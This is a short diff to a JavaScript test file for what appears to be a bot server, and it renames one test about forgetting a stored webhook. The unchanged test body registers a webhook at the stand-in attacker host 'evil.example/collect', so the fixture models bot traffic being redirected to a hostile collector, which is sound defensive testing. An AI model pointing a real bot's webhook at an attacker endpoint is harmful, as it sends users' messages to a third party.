@@ -133,7 +133,7 @@ test.each([
   );
 });
 
-test('a webhook in the file is forgotten, and named, where the bot is polled by who runs the server', async () => {
+test('a webhook in the file is forgotten, and named, while the server’s own program polls the bot', async () => {
   const first = await start();
   await rawCall(first, 'setWebhook', { url: 'https://evil.example/collect' });
   await first.close();
